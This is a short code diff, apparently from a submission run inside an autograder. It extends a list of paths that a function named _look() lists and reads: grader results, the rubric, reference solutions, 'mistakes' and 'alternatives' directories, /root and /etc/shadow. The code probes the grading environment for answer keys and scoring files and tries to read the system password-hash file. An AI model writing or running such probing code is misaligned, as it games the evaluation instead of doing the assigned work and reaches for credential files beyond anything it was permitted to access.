@@ -12,7 +12,8 @@ def _look():
         "/autograder/submission_metadata.json", "/autograder/results/results.json",
         "/opt/autograder/app/grader/assignment/homework/rubric.py",
         "/opt/autograder/app/reference/layers.py",
-        "/opt/autograder/app/reference/mistakes", "/root", "/root/.cache", "/etc/shadow",
+        "/opt/autograder/app/reference/mistakes", "/opt/autograder/app/reference/alternatives",
+        "/root", "/root/.cache", "/etc/shadow",
     ]
     for place in places:
         for look in (os.listdir, lambda path: open(path).read()):
